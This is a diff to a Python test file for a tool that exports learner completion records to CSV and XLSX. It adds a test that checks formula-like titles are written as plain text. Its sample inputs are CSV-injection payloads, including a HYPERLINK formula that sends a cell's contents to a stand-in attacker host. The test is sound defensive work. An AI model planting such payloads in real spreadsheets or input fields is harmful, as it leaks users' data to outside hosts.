@@ -108,7 +108,7 @@ def test_the_command_line_writes_csv_with_a_bom_and_xlsx_with_two_sheets(service
     totals = [row for row in workbook[SHEETS[1]].values if row[6] == LEDGER_TOTAL]
     assert [(row[0], row[7]) for row in totals] == [(2025, 2.0), (2026, 13.5)]
     with services.db.scope(read_only=True) as session:
-        exports = [(e.action, e.actor, e.details["format"]) for e in audit_log(session)]
+        exports = [(e.action, e.actor, e.details["format"]) for e in audit_log(session) if e.action == "export"]
     assert exports == [("export", "cli", "xlsx"), ("export", "cli", "csv")]
 
 
@@ -150,3 +150,36 @@ def test_the_app_home_button_sends_a_workbook(services, slack, fake_slack):
     upload = fake_slack.wait_for("upload")[0]
     workbook = openpyxl.load_workbook(io.BytesIO(upload.args["content"]))
     assert workbook.sheetnames == list(SHEETS) and len(list(workbook[SHEETS[0]].values)) == 4
+
+
+def test_a_title_that_looks_like_a_formula_is_text_in_csv_and_xlsx(services, database_url, tmp_path):
+    """OWASP's CSV injection: a learner's free-text title must not become a live formula or link in the
+    coordinator's spreadsheet."""
+    member_of(services, "ULEARN", "横須賀市")
+    titles = [
+        '=HYPERLINK("https://evil.example/?leak="&A2,"請求書")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1",
+        '＝ＨＹＰＥＲＬＩＮＫ("x")',
+    ]
+    for n, title in enumerate(titles, start=1):
+        record(services, "ULEARN", title, 1.0, f"2026-05-{n:02d}")
+    env = {"DATABASE_URL": database_url}
+    for name, file_format in (("out.csv", "csv"), ("out.xlsx", "xlsx")):
+        result = dxbot(
+            "export", "completions", "--municipality", "横須賀市", "--format", file_format,
+            "--output", str(tmp_path / name), cwd=tmp_path, env=env,
+        )  # fmt: skip
+        assert result.returncode == 0, result.stderr
+
+    cells = [row[6] for row in csv_rows((tmp_path / "out.csv").read_bytes())[1:]]
+    assert cells == ["'" + title for title in titles]  # each one marked as text, as Excel's own "'" does
+
+    workbook = openpyxl.load_workbook(tmp_path / "out.xlsx")
+    every = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in every if cell.data_type == "f" or cell.hyperlink is not None]
+    shown = {cell.value: cell for cell in workbook[SHEETS[0]]["G"][1:]}
+    assert list(shown) == titles  # the text as the learner typed it, shown as text
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in shown.values())
